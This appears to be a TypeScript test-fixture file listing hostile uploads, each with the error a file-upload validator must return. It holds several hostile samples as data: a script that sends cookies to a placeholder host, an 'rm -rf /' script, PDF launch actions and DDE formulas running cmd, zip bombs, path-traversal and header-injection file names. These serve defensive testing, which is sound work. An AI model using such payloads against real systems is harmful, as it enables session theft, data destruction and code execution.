// Files as someone might send them by malice or by accident, each with what it must be answered.
import { createHash, randomBytes } from 'node:crypto';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { ods, xlsx, zip } from './classeur.ts';
import { EICAR } from './clamd.ts';

export const PDF = Buffer.from(
  [
    '%PDF-1.7',
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj',
    'trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n',
  ].join('\n'),
);
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
/** A JPEG with its thumbnail, which has an end of its own, and escaped bytes in the image. */
export const JPEG = Buffer.concat([
  Buffer.from('ffd8ffe1001045786966000000ffd8ffd9000000', 'hex'),
  Buffer.from('ffdb000400ffffda00080101003f000012ff0034ffd056', 'hex'),
  Buffer.alloc(70_000, 0x11),
  Buffer.from('ffd9', 'hex'),
]);
const HTML = '<!doctype html><html><script>fetch("https://exemple.fr/"+document.cookie)</script></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const ARCHIVE = zip([{ nom: 'charge.js', corps: Buffer.from('alert(1)') }]);
const avecAction = (action: string): Buffer =>
  Buffer.from(PDF.toString('latin1').replace('/Catalog', `/Catalog ${action}`));

/** A workbook with a sheet that does not compress. */
const COMPLET = xlsx({ nom: 'xl/feuille.bin', corps: randomBytes(5_000) });

/** The end of a zip made by hand: 22 bytes, without comment. */
const FIN_ZIP = 22;

/** The same zip, whose end says something else of its directory. */
function mentir(octets: Buffer, dire: (fin: Buffer, debut: number) => void): Buffer {
  const copie = Buffer.from(octets);
  const debut = copie.length - FIN_ZIP;
  dire(copie.subarray(debut), debut);
  return copie;
}

/** The same zip, whose directory says that its first entry, stored as it is, is longer. */
function allongerPremiere(octets: Buffer, longueur: number): Buffer {
  const copie = Buffer.from(octets);
  const repertoire = copie.readUInt32LE(copie.length - FIN_ZIP + 16);
  copie.writeUInt32LE(longueur, repertoire + 20);
  copie.writeUInt32LE(longueur, repertoire + 24);
  return copie;
}

const MACRO = { nom: 'xl/vbaProject.bin', corps: Buffer.from('x') };
/** What an entry takes in the directory. */
const DESCRIPTION = 46 + MACRO.nom.length;

/** A form that computes: JavaScript is ordinary in those of the State. */
export const PDF_AVEC_JAVASCRIPT = avecAction('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>');

const HEIC = Buffer.from('0000001866747970686569630000000068656963' + '6d696631', 'hex');

/** A PDF as office programs write it: its objects in compressed streams. */
async function pdfCompresse(completer: (d: PDFDocument) => unknown): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  await completer(document);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

const pdfQuiLance = (): Promise<Buffer> =>
  pdfCompresse((d) =>
    d.catalog.set(PDFName.of('OpenAction'), d.context.register(d.context.obj({ S: 'Launch', F: 'cmd.exe' }))),
  );

/** A PDF with another file in it. */
export const pdfAvecJoint = (nom: string): Promise<Buffer> => pdfCompresse((d) => d.attach(Buffer.from('MZ'), nom));

/** A PDF with a link to that address. */
export const pdfAvecLien = (adresse: string): Promise<Buffer> =>
  pdfCompresse((d) =>
    d.catalog.set(
      PDFName.of('OpenAction'),
      d.context.register(d.context.obj({ S: 'URI', URI: PDFString.of(adresse) })),
    ),
  );

/**
 * The same page, its streams left as they are, and the dictionary of a protection by AES-256 (revision 5): against printing only, or against opening. The password
 * that opens is then « ouvrir ».
 */
export function pdfProtege(contre: 'imprimer' | 'ouvrir'): Buffer {
  const [sel, autreSel] = [randomBytes(8), randomBytes(8)];
  const tenu = createHash('sha256')
    .update(contre === 'ouvrir' ? 'ouvrir' : '')
    .update(sel)
    .digest();
  const u = Buffer.concat([tenu, sel, autreSel]).toString('hex');
  const protection = `<< /Filter /Standard /V 5 /R 5 /Length 256 /P -3904 /U <${u}> /O <${'00'.repeat(48)}> >>`;
  return Buffer.from(PDF.toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R /Encrypt ${protection}`));
}

interface CasHostile {
  cas: string;
  nom: string;
  octets: Buffer;
  statut: 413 | 415 | 422;
  /** A part of the sentence. */
  dit: string;
}

const FORMAT = 'Ce format n’est pas accepté';
const MENTEUR = 'n’est pas celui d’un fichier';
const COUPE = 'est incomplet';
const CACHE = 'en cache un autre';
const GONFLE = 'anormalement compressé';
const ILLISIBLE = 'incomplet ou illisible';
const NOM = 'un chemin ou un caractère caché';

const refus = (
  statut: CasHostile['statut'],
  dit: string,
  cas: [cas: string, nom: string, octets: Buffer | string][],
): CasHostile[] =>
  cas.map(([titre, nom, octets]) => ({
    cas: titre,
    nom,
    octets: typeof octets === 'string' ? Buffer.from(octets, 'latin1') : octets,
    statut,
    dit,
  }));

/** Everything that is refused, whatever the antivirus. */
export const hostiles = async (): Promise<CasHostile[]> => [
  ...refus(422, 'est vide', [['0 octet', 'vide.pdf', '']]),
  ...refus(422, 'programme malveillant', [
    ['EICAR', 'note.txt', EICAR],
    [
      'EICAR dans un PDF',
      'a.pdf',
      Buffer.concat([PDF.subarray(0, 9), Buffer.from(`% ${EICAR.toString()}\n`), PDF.subarray(9)]),
    ],
    ['EICAR dans une image', 'a.png', Buffer.concat([PNG, EICAR])],
  ]),
  ...refus(415, FORMAT, [
    ['SVG avec script', 'dessin.svg', SVG],
    ['page HTML', 'page.html', HTML],
    ['programme', 'outil.exe', 'MZ\u0090\u0000'],
    ['archive', 'a.zip', ARCHIVE],
    ['sans extension', 'statuts', PDF],
    ['deux extensions', 'statuts.pdf.exe', PDF],
    ['classeur avec macros', 'a.xlsm', xlsx()],
  ]),
  ...refus(415, MENTEUR, [
    ['HTML nommé .pdf', 'page.pdf', HTML],
    ['PDF qui commence par du HTML', 'page.pdf', Buffer.concat([Buffer.from(HTML), PDF])],
    ['SVG nommé .png', 'dessin.png', SVG],
    ['PNG nommé .jpg', 'photo.jpg', PNG],
    ['archive nommée .xlsx', 'budget.xlsx', ARCHIVE],
    ['XLSX nommé .ods', 'budget.ods', xlsx()],
    ['programme nommé .pdf', 'statuts.pdf', 'MZ\u0090\u0000'],
    ['script nommé .txt', 'note.txt', '#!/bin/sh\nrm -rf /'],
    ['balise dans un CSV', 'liste.csv', 'nom;age\n<script>alert(1)</script>;3'],
    ['caractères de contrôle dans un CSV', 'liste.csv', 'nom;age\u0000\u0001'],
  ]),
  ...refus(415, CACHE, [
    ['PDF et HTML', 'a.pdf', Buffer.concat([PDF.subarray(0, 9), Buffer.from(HTML), PDF.subarray(9)])],
    [
      'HTML après 1 024 octets d’un PDF',
      'a.pdf',
      Buffer.concat([PDF.subarray(0, 9), Buffer.from(`${'% '.repeat(1_000)}\n${HTML}\n`), PDF.subarray(9)]),
    ],
    ['HTML après un JPEG', 'a.jpg', Buffer.concat([JPEG, Buffer.from(HTML)])],
    ['PDF et ZIP', 'a.pdf', Buffer.concat([PDF, ARCHIVE, Buffer.from('\n%%EOF')])],
    ['JPEG et ZIP', 'a.jpg', Buffer.concat([JPEG, ARCHIVE])],
    ['PNG et ZIP', 'a.png', Buffer.concat([PNG, ARCHIVE])],
  ]),
  ...refus(415, COUPE, [
    ['PDF coupé', 'a.pdf', PDF.subarray(0, -8)],
    ['PNG coupé', 'a.png', PNG.subarray(0, -14)],
    ['JPEG coupé', 'a.jpg', JPEG.subarray(0, -100)],
    ['JPEG coupé avant l’image', 'a.jpg', JPEG.subarray(0, 24)],
  ]),
  ...refus(415, ILLISIBLE, [
    ['XLSX coupé à la fin', 'a.xlsx', xlsx().subarray(0, -30)],
    ['XLSX dont un morceau manque', 'a.xlsx', Buffer.concat([COMPLET.subarray(0, 1_000), COMPLET.subarray(1_050)])],
    ['ODS coupé', 'a.ods', ods().subarray(0, -30)],
    [
      'macros après la dernière entrée annoncée',
      'a.xlsx',
      mentir(xlsx(MACRO), (fin) => {
        fin.writeUInt16LE(2, 10);
      }),
    ],
    [
      'macros après la fin annoncée du répertoire',
      'a.xlsx',
      mentir(xlsx(MACRO), (fin) => {
        fin.writeUInt16LE(2, 10);
        fin.writeUInt32LE(fin.readUInt32LE(12) - DESCRIPTION, 12);
      }),
    ],
    [
      'aucune entrée',
      'a.xlsx',
      mentir(xlsx(), (fin, debut) => {
        fin.writeUInt16LE(0, 10);
        fin.writeUInt32LE(0, 12);
        fin.writeUInt32LE(debut, 16);
      }),
    ],
    ['entrée non compressée plus longue que le fichier', 'a.ods', allongerPremiere(ods(), 10_000)],
    [
      '10 001 entrées',
      'a.ods',
      ods(...Array.from({ length: 10_001 }, (_, i) => ({ nom: `e${i}`, corps: Buffer.from('x') }))),
    ],
  ]),
  ...refus(415, GONFLE, [
    ['XLSX qui gonfle', 'a.xlsx', xlsx({ nom: 'xl/media/zero.bin', corps: Buffer.alloc(60_000_000) })],
    ['ODS qui gonfle', 'a.ods', ods({ nom: 'zero.bin', corps: Buffer.alloc(60_000_000) })],
    [
      'XLSX qui ment sur sa taille',
      'a.xlsx',
      xlsx({ nom: 'xl/zero.bin', corps: Buffer.alloc(60_000_000), annoncee: 100 }),
    ],
    ['XLSX qui annonce 4 Go', 'a.xlsx', xlsx({ nom: 'xl/zero.bin', corps: Buffer.alloc(4), annoncee: 4_000_000_000 })],
  ]),
  ...refus(415, 'une archive ou un programme', [
    ['archive dans un XLSX', 'a.xlsx', xlsx({ nom: 'xl/embeddings/a.zip', corps: ARCHIVE })],
    ['archive dans un ODS', 'a.ods', ods({ nom: 'Object 1/a.zip', corps: ARCHIVE })],
    ['programme dans un XLSX', 'a.xlsx', xlsx({ nom: 'xl/embeddings/a.exe', corps: Buffer.from('MZ') })],
  ]),
  ...refus(415, 'des macros', [
    ['macros dans un XLSX', 'a.xlsx', xlsx({ nom: 'xl/vbaProject.bin', corps: Buffer.from('x') })],
    ['macros dans un ODS', 'a.ods', ods({ nom: 'Basic/Standard/Module1.xml', corps: Buffer.from('x') })],
  ]),
  ...refus(415, 'peut lancer un programme', [
    ['PDF qui lance un programme', 'a.pdf', avecAction('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['PDF qui le cache dans des objets compressés', 'a.pdf', await pdfQuiLance()],
    ['PDF qui le cache', 'a.pdf', avecAction('/OpenAction << /S /L#61un#63h /F (cmd.exe) >>')],
  ]),
  ...refus(415, 'outil.exe', [['programme joint à un PDF', 'a.pdf', await pdfAvecJoint('outil.exe')]]),
  ...refus(415, 'ne contient aucune page', [
    ['PDF sans page', 'a.pdf', PDF.toString('latin1').replace('/Type /Page ', '/Type /Autre ')],
  ]),
  ...refus(415, 'mot de passe', [['PDF fermé par un mot de passe', 'a.pdf', pdfProtege('ouvrir')]]),
  ...refus(415, 'Le plus compatible', [
    ['photo HEIC', 'IMG_0001.HEIC', HEIC],
    ['photo HEIC nommée .jpg', 'IMG_0001.jpg', HEIC],
  ]),
  ...refus(415, 'lien DDE', [
    [
      'DDE dans un XLSX',
      'a.xlsx',
      xlsx({ nom: 'xl/worksheets/sheet9.xml', corps: Buffer.from(`<f>cmd|' /C calc'!A0</f>`) }),
    ],
    [
      'lien DDE dans un XLSX',
      'a.xlsx',
      xlsx({
        nom: 'xl/externalLinks/externalLink1.xml',
        corps: Buffer.from('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
      }),
    ],
  ]),
  ...refus(422, NOM, [
    ['chemin Unix dans le nom', '../../etc/passwd.pdf', PDF],
    ['chemin Windows dans le nom', 'C:\\Windows\\System32\\a.pdf', PDF],
    ['caractère nul dans le nom', 'a.pdf\u0000.exe', PDF],
    ['nom lu à l’envers', 'statuts\u202efdp.pdf', PDF],
    ['retour à la ligne dans le nom', 'a\r\nSet-Cookie: x.pdf', PDF],
  ]),
];
